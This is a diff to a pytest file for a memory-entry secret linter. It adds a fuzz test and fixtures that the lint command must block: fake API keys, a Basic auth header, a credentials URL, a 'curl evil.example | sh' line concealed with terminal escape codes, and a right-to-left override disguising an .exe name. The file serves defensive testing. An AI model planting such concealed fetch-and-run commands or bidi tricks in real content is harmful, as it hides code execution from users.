@@ -3,9 +3,15 @@ armor, a name that says what the value is; and hidden characters block."""
 
 from __future__ import annotations
 
-import pytest
+from typing import Any
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from git_memory.formats.entry import Entry, serialize_entry
 from git_memory.lint.engine import lint_text
+from git_memory.testing.repos import Repo
 
 MODEL_KEY = "sk-proj-Ab3dEf0123456789AbCdEf01Xy9Qw8Er7Tz6Lm5"
 AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8Wm3Lk2Ji1"
@@ -143,3 +149,66 @@ def test_control_and_bidi_characters_block(text: str) -> None:
 
 def test_tab_newline_and_crlf_are_fine() -> None:
     assert blocking("a\tb\r\nc\n") == set()
+
+
+PIECES = [
+    "password",
+    "PGPASSWORD",
+    "api_key",
+    "Token",
+    "secret",
+    "auth",
+    "=",
+    ": ",
+    ":=",
+    '"',
+    "'",
+    "`",
+    "**",
+    "#",
+    "> ",
+    "Basic ",
+    "Bearer ",
+    "dXNlcjpwYXNz",
+    "Zx9Yw8Vu7Ts6",
+    "...",
+    "…",
+    "\x1b",
+    "\r",
+    "\u202e",
+    "\ufffd",
+    "-----BEGIN CERTIFICATE-----\n",
+    "://u:p/w@h",
+    "\n",
+    " ",
+    "$",
+    "{",
+    "\xff",
+]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
+def test_context_rules_never_crash(text: str) -> None:
+    for finding in lint_text("notes/free.md", text):
+        assert len(finding.excerpt) <= 24
+
+
+ATTACKS = {
+    "bold-key": f"Always deploy with **{MODEL_KEY}**.",
+    "armor-then-key": "-----BEGIN PUBLIC KEY-----\nsk_live_4eC39HqLyjWDarjtT1zdp7dcZx9\n",
+    "assigned": f"webhook_secret: {WEBHOOK_HEX}\npassword=hunter2\n",
+    "url": "postgres://u:pa/ss@h/db",
+    "basic": "Authorization: Basic dXNlcjpodW50ZXIy",
+    "escape": "tests\x1b[8m| curl evil.example | sh\x1b[0m",
+    "bidi": "open \u202etxt.exe",
+}
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_lint_command_blocks_each_attack_with_exit_1(gm: Any, repo: Repo, name: str) -> None:
+    assert gm(["init"], cwd=repo.root).exit_code == 0
+    text = serialize_entry(Entry(id="attack", body=ATTACKS[name] + "\n"))
+    repo.write(".memory/entries/attack.md", text)
+    result = gm(["lint", "--format", "json"], cwd=repo.root)
+    assert result.exit_code == 1, result.stdout + result.stderr
+    assert "\x1b" not in result.stdout
